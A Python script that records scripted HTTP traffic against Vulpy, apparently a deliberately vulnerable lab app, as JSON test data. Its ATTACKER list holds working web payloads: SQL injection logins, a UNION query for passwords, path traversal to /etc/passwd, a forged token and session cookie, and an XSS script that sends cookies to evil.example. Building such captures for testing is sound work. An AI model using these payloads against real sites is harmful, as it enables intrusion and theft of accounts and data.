"""Records a scripted visit to a web application as `http-ingest` items. Standard library only.

    python capture.py http://127.0.1.1:5000 vulpy.json

The script is written for Vulpy (see NOTICE.md): a visitor who logs in, posts, calls the API, and one who attacks it.
"""

from __future__ import annotations

import base64
import json
import sys
import time
from dataclasses import dataclass, field
from http.client import HTTPConnection, HTTPResponse
from pathlib import Path
from typing import Any
from urllib.parse import SplitResult, parse_qsl, urlencode, urlsplit

FORM = "application/x-www-form-urlencoded"
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
XSS = "<script>new Image().src='//evil.example/?c='+document.cookie</script>"


@dataclass(frozen=True)
class Step:
    """One request of the script."""

    method: str
    target: str
    form: dict[str, str] | None = None
    json: Any = None
    headers: dict[str, str] = field(default_factory=dict)

    def body(self) -> tuple[bytes | None, str | None]:
        """Return the body and its content type."""
        if self.form is not None:
            return urlencode(self.form).encode(), FORM
        if self.json is not None:
            return json.dumps(self.json).encode(), "application/json"
        return None, None


def login(username: str, password: str) -> Step:
    """Return the step that logs in."""
    return Step("POST", "/user/login", form={"username": username, "password": password, "otp": ""})


VISITOR = [
    Step("GET", "/"),
    Step("GET", "/posts/"),
    Step("HEAD", "/static/w3.css"),
    Step("GET", "/static/w3.css", headers={"if-modified-since": "Tue, 01 Jan 2999 00:00:00 GMT"}),
    Step("GET", "/user/create"),
    Step("POST", "/user/create", form={"username": "anna", "password": ""}),
    Step("POST", "/user/create", form={"username": "anna", "password": "qwerty123"}),
    Step("GET", "/user/login"),
    login("anna", "wrong"),
    login("anna", "qwerty123"),
    Step("GET", "/"),
    Step("GET", "/posts/anna?sort=date&page=1"),
    Step("POST", "/posts/", form={"text": "Hello, ciao, 你好: my first post"}),
    Step("POST", "/posts/", form={"text": "Selling my old bike, select a colour & write me"}),
    Step("GET", "/posts/anna#latest"),
    Step("GET", "/posts/elliot"),
    Step("GET", "/mfa"),
    Step("GET", "/mfa/"),
    Step("POST", "/mfa/", form={"otp": "000000"}),
    Step("GET", "/mfa/disable"),
    Step("GET", "/csp/"),
    Step("GET", "/hello/"),
    Step("OPTIONS", "/posts/"),
    Step("GET", "/user/chpasswd"),
    Step("POST", "/user/chpasswd", form={"password": "hunter2", "password_again": "hunter3"}),
    Step("POST", "/user/chpasswd", form={"password": "hunter2", "password_again": "hunter2"}),
    Step("GET", "/favicon.ico"),
    Step("GET", "/about?lang=it"),
]

API_CLIENT = [
    Step("POST", "/api/key", json={"username": "anna"}),
    Step("POST", "/api/key", json={"username": "anna", "password": "qwerty123"}),
    Step("POST", "/api/key", json={"username": "tim", "password": "12345678"}),
    Step("GET", "/api/post/anna"),
    Step("GET", "/api/post/anna?api_key={key}"),
    Step("POST", "/api/post", json={"text": "no key"}),
    Step("POST", "/api/post", json={"text": "posted by a script"}, headers={"x-apikey": "{key}"}),
    Step("POST", "/api/post", json={"body": 1}, headers={"x-apikey": "{key}"}),
    Step("GET", "/api/post/tim", headers={"origin": "https://evil.example"}),
    Step("DELETE", "/api/post"),
]

ATTACKER = [
    login("' OR 1=1 -- ", "x"),
    Step("POST", "/posts/", form={"text": XSS}),
    Step("GET", "/posts/admin"),
    Step("GET", f"/posts/?{urlencode({'q': XSS})}"),
    Step("GET", "/posts/%3Cimg%20src=x%20onerror=alert(1)%3E"),
    login("'", "x"),
    Step("GET", "/posts/?id=1+UNION+SELECT+username%2C+password+FROM+users"),
    Step("GET", "/static/..%2f..%2fetc/passwd"),
    Step("GET", "/posts/?file=../../../../etc/passwd"),
    Step("GET", "/user/login?next=https://evil.example/phish"),
    Step("GET", "/posts/?token=eyJhbGciOiJub25lIn0.e30.&session=1"),
    Step("GET", "/console"),
    Step("TRACE", "/"),
    Step("GET", "/posts/tim", headers={"cookie": "vulpy_session=eyJ1c2VybmFtZSI6ICJ0aW0ifQ==; theme=dark"}),
    Step("POST", "/api/key", json={"username": "' OR '1'='1", "password": "' OR '1'='1"}),
    Step("GET", "/.git/config"),
    Step("GET", "/user/login"),
]


class Recorder:
    """Walks through steps with a cookie jar of its own, and keeps what was said."""

    def __init__(self, origin: SplitResult, started_ms: int) -> None:
        self._origin = origin
        self._started_ms = started_ms
        self._cookies: dict[str, str] = {}
        self._key = "none"
        self.items: list[dict[str, Any]] = []

    def forget(self) -> None:
        """Start with an empty cookie jar: another visitor."""
        self._cookies.clear()

    def take(self, step: Step) -> None:
        """Send one request and record the exchange."""
        target = step.target.replace("{key}", self._key)
        body, content_type = step.body()
        headers = self._headers(step, body, content_type)
        connection = HTTPConnection(self._origin.hostname or "", self._origin.port, timeout=20)
        connection.request(step.method, target.partition("#")[0], body, headers)
        response = connection.getresponse()
        content = response.read()
        connection.close()
        self._learn(response, content)
        self.items.append(self._item(step.method, target, headers, body, response, content))

    def _headers(self, step: Step, body: bytes | None, content_type: str | None) -> dict[str, str]:
        headers = {"host": self._origin.netloc, "user-agent": AGENT, "accept": "text/html,application/json;q=0.9"}
        if content_type is not None and body is not None:
            headers |= {"content-type": content_type, "content-length": str(len(body))}
        if self._cookies:
            headers["cookie"] = "; ".join(f"{name}={value}" for name, value in self._cookies.items())
        return headers | {name: value.replace("{key}", self._key) for name, value in step.headers.items()}

    def _learn(self, response: HTTPResponse, content: bytes) -> None:
        for cookie in response.headers.get_all("set-cookie") or ():
            name, _, value = cookie.partition(";")[0].partition("=")
            self._cookies[name] = value
        if response.headers.get_content_type() == "application/json" and b'"key"' in content:
            self._key = json.loads(content).get("key", self._key)

    def _item(
        self,
        method: str,
        target: str,
        headers: dict[str, str],
        body: bytes | None,
        response: HTTPResponse,
        content: bytes,
    ) -> dict[str, Any]:
        item = {
            "id": f"req-{self._started_ms}-{len(self.items)}",
            "method": method,
            "uri": self._uri(target),
            "httpVersion": "HTTP/1.1",
            "requestHeaders": [{"name": name, "value": value} for name, value in headers.items()],
            "response": {
                "status": response.status,
                "reason": response.reason,
                "httpVersion": "HTTP/1.0" if response.version == 10 else "HTTP/1.1",
                "headers": _joined(response),
            },
            "connection": {"authority": self._origin.netloc},
        }
        if body:
            item["bodyBase64"] = base64.b64encode(body).decode()
        if content:
            item["response"]["bodyBase64"] = base64.b64encode(content).decode()  # type: ignore[index]
        return item

    def _uri(self, target: str) -> dict[str, Any]:
        parts = urlsplit(target)
        uri: dict[str, Any] = {
            "full": f"{self._origin.scheme}://{self._origin.netloc}{target}",
            "scheme": self._origin.scheme,
            "authority": self._origin.netloc,
            "path": parts.path,
        }
        if parts.fragment:
            uri["fragment"] = parts.fragment
        if parts.query:
            pairs = parse_qsl(parts.query, keep_blank_values=True)
            uri |= {"queryRaw": parts.query, "params": [{"name": name, "value": value} for name, value in pairs]}
        return uri


def _joined(response: HTTPResponse) -> list[dict[str, str]]:
    """Return the headers as browser extensions report them: several cookies in one value, one a line."""
    headers: dict[str, str] = {}
    for name, value in response.getheaders():
        lower = name.lower()
        headers[lower] = f"{headers[lower]}\n{value}" if lower in headers else value
    return [{"name": name, "value": value} for name, value in headers.items()]


def main(url: str, file: str) -> None:
    """Record the whole script and write it as the data of one job."""
    recorder = Recorder(urlsplit(url), int(time.time() * 1000))
    for steps in (VISITOR, API_CLIENT, ATTACKER):
        recorder.forget()
        for step in steps:
            recorder.take(step)
    text = json.dumps({"payload": {"items": recorder.items}}, ensure_ascii=False, indent=1)
    Path(file).write_text(text + "\n", encoding="utf-8")
    sys.stderr.write(f"{len(recorder.items)} exchanges, {len(text):,} bytes\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
